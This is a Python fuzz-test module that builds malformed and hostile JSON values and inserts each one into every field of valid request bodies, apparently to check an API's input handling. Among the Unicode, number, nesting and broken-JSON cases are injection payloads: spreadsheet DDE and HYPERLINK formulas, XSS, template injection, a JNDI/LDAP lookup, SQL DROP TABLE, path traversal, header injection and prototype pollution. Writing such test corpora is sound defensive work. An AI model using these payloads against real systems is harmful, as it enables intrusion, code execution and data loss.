"""Pieces of JSON for the place of any one value: each stands in turn in every field of every body."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.fuzz.corpus.hostile import (
    CANARY,
    EITHER,
    HEAVY_BYTES,
    REFUSED,
    UNREADABLE,
    Hostile,
    dotted,
    places,
    with_piece,
)  # fmt: skip
from tests.fuzz.knocks import Good

Piece = tuple[bytes, frozenset[int]]


def _text(text: str, must: frozenset[int] = EITHER) -> Piece:
    """A JSON text in which everything stands as it is, the quote and the backslash apart."""
    return b'"' + text.replace("\\", "\\\\").replace('"', '\\"').encode() + b'"', must


def _raw(piece: str | bytes, must: frozenset[int] = UNREADABLE) -> Piece:
    return (piece.encode() if isinstance(piece, str) else piece), must


def _deep(opening: str, closing: str, count: int) -> Piece:
    return _raw(opening * count + "1" + closing * count)


# Characters that are no text or change how text is read, each written as an escape.
_CONTROLS = {
    f"control {code:04x}": _raw(f'"{CANARY}\\u{code:04x}x"', REFUSED)
    for code in (
        1,
        7,
        8,
        0x0B,
        0x0C,
        0x1B,
        0x1F,
        0x7F,
        0x80,
        0x85,
        0x9F,
        *range(0x202A, 0x202F),
        *range(0x2066, 0x206A),
    )
}
_NO_UTF8 = {
    "surrogate as bytes": b"\xed\xa0\x80", "pair of surrogates as bytes": b"\xed\xa0\xbc\xed\xbc\xb1",
    "overlong NUL": b"\xc0\x80", "overlong slash, two": b"\xc0\xaf", "overlong slash, three": b"\xe0\x80\xaf",
    "overlong slash, four": b"\xf0\x80\x80\xaf", "beyond Unicode": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80",
    "lone continuation": b"\x80", "cut character": b"\xe2\x82", "byte fe": b"\xfe", "byte ff": b"\xff",
    "Latin-1": b"Zo\xeb",
}  # fmt: skip
_HALVES = {
    "half a pair": "\\ud800", "last half": "\\udfff", "two first halves": "\\ud83c\\ud83c",
    "pair the wrong way round": "\\udf31\\ud83c", "half a pair before text": "\\ud83cx",
}  # fmt: skip
_STRANGE = {
    "zero width space": f"{CANARY}\u200b", "zero width joiner": f"{CANARY}\u200d\u200c",
    "word joiner": f"{CANARY}\u2060",
    "soft hyphen": f"Kana\u00adrienvogel{CANARY}", "byte order mark inside": f"{CANARY}\ufeff{CANARY}",
    "left-to-right mark": f"\u200e{CANARY}\u200f", "no character fffe": f"{CANARY}\ufffe",
    "no character ffff": f"{CANARY}\uffff",
    "no character 1fffe": f"{CANARY}\U0001fffe", "last character": f"{CANARY}\U0010ffff",
    "private use": f"{CANARY}\ue000",
    "tags": f"{CANARY}\U000e0041\U000e0042\U000e007f", "variation selectors": f"{CANARY}\ufe0f\U000e0100",
    "combining flood": CANARY + "e" + "\u0301" * 500, "combining alone": "\u0301" + CANARY,
    "many marks": "".join(f"{letter}\u0316\u0317\u0318\u031a\u0340" for letter in CANARY),
    "decomposed": "Zoe\u0308 Kanarienvogel", "composed": "Zoë Kanarienvogel", "ligature": "ﷺ" * 20 + CANARY,
    "dotted I": f"İstanbul ıI{CANARY}", "sharp s": f"ẞß{CANARY}", "Kelvin": f"\u212a{CANARY}",
    "fullwidth": "Ｋａｎａｒｉｅｎｖｏｇｅｌ",
    "lookalikes": "Каnаriеnvоgеl", "Arabic": f"محمد {CANARY}", "right to left": f"שלום{CANARY}",
    "family": f"👩‍👩‍👧‍👦{CANARY}",
    "flags": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "skin": f"👩🏽‍🦱{CANARY}",
    "line separator": f"{CANARY}\u2028{CANARY}", "paragraph separator": f"{CANARY}\u2029",
    "spaces of many kinds": "\u00a0\u2003\u3000\u1680",
    "Arabic digits": "٠١٢٣٤٥٦٧٨٩", "fullwidth digits": "９９９０００００１８", "superscripts": "²³¹", "fractions": "½⅓",
}  # fmt: skip
_DANGEROUS = {
    "formula": f"=1+1+{CANARY}", "formula plus": f"+1{CANARY}", "formula minus": f"-1{CANARY}",
    "formula at": f"@SUM({CANARY})",
    "formula of a command": f"=cmd|' /C {CANARY}'!A0",
    "formula of a link": f'=HYPERLINK("http://example.org/{CANARY}")',
    "formula behind a separator": f";={CANARY}", "fullwidth formula": f"＝1+{CANARY}",
    "formula import": f'=IMPORTXML("{CANARY}")',
    "script": f"<script>alert('{CANARY}')</script>", "image": f'"><img src=x onerror={CANARY}>',
    "closing text area": f"</textarea>{CANARY}",
    "template": "{{ 7 * 7 }}" + CANARY, "template statement": "{% for x in config %}" + CANARY + "{% endfor %}",
    "expression": "${7*7}" + CANARY,
    "lookup": "${jndi:ldap://example.org/" + CANARY + "}", "quote": f"' OR '1'='1 {CANARY}",
    "end of statement": f"'); DROP TABLE people; -- {CANARY}",
    "like": f"%{CANARY}_", "path": f"../../../../etc/{CANARY}", "windows path": f"..\\..\\{CANARY}",
    "percent NUL": f"%00{CANARY}",
    "written NUL": f"\\x00 \\0 {CANARY}", "format": f"%s%n%x{CANARY}", "braces": "{0.__class__}" + CANARY,
    "address": f"javascript:alert('{CANARY}')",
    "entity": f"&xxe;&#0;{CANARY}", "CDATA": f"<![CDATA[{CANARY}]]>", "header": f"{CANARY} Set-Cookie: a=b",
    "e-mail header": f"{CANARY}@example.org%0aBcc: x@example.org",
    "sealed text": f"s1.contact.00000000-0000-4000-8000-000000000000.{CANARY}", "word None": "None",
    "word null": "null",
    "word undefined": "undefined", "word NaN": "NaN", "words true and false": "true false",
}  # fmt: skip
_NUMBERS = {
    "zero": "0", "minus zero": "-0", "minus zero with a point": "-0.0", "minus one": "-1", "one and a half": "1.5",
    "a thousand": "1e3",
    "2^31 - 1": "2147483647", "2^31": "2147483648", "-2^31 - 1": "-2147483649", "2^53 - 1": "9007199254740991",
    "very small": "1e-400", "smallest": "5e-324", "largest float": "1.7976931348623157e308",
}  # fmt: skip
_NO_NUMBERS = {
    "NaN": "NaN", "Infinity": "Infinity", "-Infinity": "-Infinity", "1e400": "1e400", "-1e400": "-1e400",
    "2^53": "9007199254740992",
    "2^63 - 1": "9223372036854775807", "2^63": "9223372036854775808", "-2^63 - 1": "-9223372036854775809",
    "2^64": "18446744073709551616",
    "400 digits": "9" * 400, "5,000 digits": "9" * 5000, "100,000 digits": "9" * 100_000,
    "5,000 digits behind the point": "0." + "1" * 5000,
    "huge exponent": "1e99999999", "leading zero": "01", "plus": "+1", "hexadecimal": "0x10", "underscore": "1_000",
    "bare point": ".5",
    "nothing behind the point": "5.", "bare exponent": "1e", "bare minus": "-", "bare Arabic digits": "٣",
    "octal": "0o17",
}  # fmt: skip
_KINDS = {
    "null": "null", "true": "true", "false": "false", "empty text": '""', "space": '" "', "empty list": "[]",
    "empty object": "{}",
    "list in a list": "[[]]", "list of null": "[null]", "list of objects": "[{}]", "object of nothing": '{"": ""}',
    "list of kinds": '[1, "x", null, true, {}, []]',
    "object": f'{{"{CANARY}": "{CANARY}"}}', "list": f'["{CANARY}", "{CANARY}"]',
    "object like a list": '{"0": "x", "1": "y", "length": 2}',
    "prototype": f'{{"__proto__": {{"is_admin": true}}, "constructor": "{CANARY}"}}',
    "reference": f'{{"$ref": "#/{CANARY}"}}',
    "operator": f'{{"$gt": "", "$where": "{CANARY}"}}', "text of a list": f'"[\\"{CANARY}\\"]"',
    "text of an object": f'"{{\\"a\\": \\"{CANARY}\\"}}"',
}  # fmt: skip
_BROKEN = {
    "name twice": f'{{"a": "{CANARY}", "a": 2}}', "name twice, once escaped": f'{{"a": 1, "\\u0061": "{CANARY}"}}',
    "name of theirs twice": f'{{"{CANARY}": 1, "{CANARY}": 2}}',
    "name twice, deeper": '{"a": [{"b": 1, "b": 2}]}', "comment": f'"{CANARY}" /* x */',
    "line comment": f'"{CANARY}" // x\n', "comma too many": f'"{CANARY}",,',
    "single quotes": f"'{CANARY}'", "bare word": CANARY, "bare undefined": "undefined", "Python's None": "None",
    "Python's True": "True",
    "two values": f'"{CANARY}" "x"', "never closed": f'"{CANARY}', "never closed list": f'["{CANARY}"',
    "never closed object": f'{{"a": "{CANARY}"', "bad escape": f'"{CANARY}\\x41"',
    "escape cut off": f'"{CANARY}\\u00"', "bare line break": f'"{CANARY}\nx"', "bare tab": f'"{CANARY}\tx"',
    "bare control": f'"{CANARY}\x01"', "bare NUL": f'"{CANARY}\x00"',
    "NUL": f'"{CANARY}\\u0000"', "NUL first": f'"\\u0000{CANARY}"', "NUL in a name": f'{{"{CANARY}\\u0000": 1}}',
    "half a pair in a name": f'{{"{CANARY}\\ud800": 1}}',
    "trailing comma in a list": f'["{CANARY}",]', "trailing comma in an object": f'{{"a": "{CANARY}",}}',
    "name without quotes": f'{{a: "{CANARY}"}}', "template literal": f"`{CANARY}`",
}  # fmt: skip
_DATES = (
    "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "1899-12-31", "2101-01-01", "9999-12-31", "10000-01-01",
    "2026-3-2", "-2026-03-02",
    "2026-W10-1", "2026-061", "20260302", "02/03/2026",
    "２０２６-０３-０２", "2026-03-02T10:00:00Z", "2026-03-02T25:00:00Z",
    "2026-03-02T10:00:00",
    "2026-03-02T10:00:00+99:99", "2026-03-02T10:00:00-00:00", "2026-06-30T23:59:60Z",
    "2026-03-02T10:00:00.123456789Z", "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00", "2026-03-02T10:00:00Z\u200b", "2026-03-02 10:00:00Z", "1900-01-01T00:00:00+14:00",
    "2026-03-29T01:30:00Z", "now", "24:00", "٢٣:٠٠", "2pm",
)  # fmt: skip
_IDS = (
    "not-an-id", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "{7d1f2c7e-0a53-4d2a-9a51-6b1f1f6f2a10}",
    "urn:uuid:7d1f2c7e-0a53-4d2a-9a51-6b1f1f6f2a10", "7d1f2c7e0a534d2a9a516b1f1f6f2a10",
    "7D1F2C7E-0A53-4D2A-9A51-6B1F1F6F2A10",
    "7d1f2c7e-0a53-4d2a-9a51-6b1f1f6f2a1", "７d1f2c7e-0a53-4d2a-9a51-6b1f1f6f2a10",
    "------------------------------------",
    "7d1f2c7e_0a53_4d2a_9a51_6b1f1f6f2a10", "7d1f2c7e-0a53-4d2a-9a51-6b1f1f6f2a10 ", "999 000 0018", "4857773456",
    "01632 960 001",
    "a@b", "a@[127.0.0.1]", f'"{CANARY}"@example.org', f"{CANARY}@xn--zckzah.example",
)  # fmt: skip
_LONG = {
    f"{count:,} characters": _text(CANARY + "x" * count)
    for count in (50, 201, 401, 2001, 4001, 10_000, 100_000, 400_000)
}
_MANY = {
    "list of 1,000": _raw("[" + ",".join([f'"{CANARY}"'] * 1000) + "]", EITHER),
    "list of 20,000 numbers": _raw("[" + ",".join(["0"] * 20_000) + "]", EITHER),
    "object of 1,000 names": _raw("{" + ",".join(f'"{CANARY}{n}": 1' for n in range(1000)) + "}", EITHER),
    "object of 20,000 names": _raw("{" + ",".join(f'"k{n}": 1' for n in range(20_000)) + "}", EITHER),
    "name of 10,000 characters": _raw(f'{{"{CANARY}{"k" * 10_000}": 1}}', EITHER),
    "names that differ by case": _raw(f'{{"name": 1, "Name": "{CANARY}", "NAME": 3}}', EITHER),
    "lists in lists, wide": _raw("[" + ",".join(["[[],[],[]]"] * 500) + "]", EITHER),
}  # fmt: skip
_DEEP = {
    **{f"lists {count:,} deep": _deep("[", "]", count) for count in (40, 1000, 100_000)},
    **{f"objects {count:,} deep": _deep('{"a":', "}", count) for count in (40, 1000, 50_000)},
    "lists and objects in turn": _deep('[{"a":', "}]", 300), "never closed lists": _raw("[" * 100_000),
    "never closed objects": _raw('{"a":' * 50_000),
    "closed too often": _raw('"x"' + "]" * 1000), "lists 20 deep": _raw("[" * 20 + f'"{CANARY}"' + "]" * 20, EITHER),
    "brackets in text": _text("[{" * 200 + CANARY),
}  # fmt: skip

PIECES: dict[str, Piece] = {
    **{f"bytes: {name}": _raw(b'"' + CANARY.encode() + part + b'"') for name, part in _NO_UTF8.items()},
    **{f"surrogate: {name}": _raw(f'"{CANARY}{text}"') for name, text in _HALVES.items()},
    **_CONTROLS,
    **{f"text: {name}": _text(text) for name, text in (_STRANGE | _DANGEROUS).items()},
    **{f"number: {name}": _raw(text, EITHER) for name, text in _NUMBERS.items()},
    **{f"no number: {name}": _raw(text) for name, text in _NO_NUMBERS.items()},
    **{f"kind: {name}": _raw(text, EITHER) for name, text in _KINDS.items()},
    **{f"broken: {name}": _raw(text) for name, text in _BROKEN.items()},
    # In a list of one it leaves an empty list.
    "broken: nothing": _raw("", EITHER),
    **{f"date: {text}": _text(text) for text in _DATES},
    **{f"id: {text}": _text(text) for text in _IDS},
    **{f"long: {name}": piece for name, piece in (_LONG | _MANY).items()},
    **{f"deep: {name}": piece for name, piece in _DEEP.items()},
}


def in_fields(good: Good) -> Iterator[Hostile]:
    """Each piece at the place of each value of a good body."""
    for path in places(good.body) if good.body is not None else ():
        for name, (piece, must) in PIECES.items():
            is_heavy = len(piece) > HEAVY_BYTES
            make = partial(with_piece, good.body, path, piece)
            yield Hostile(f"{dotted(path)} = {name}", make, name, must=must, is_heavy=is_heavy)
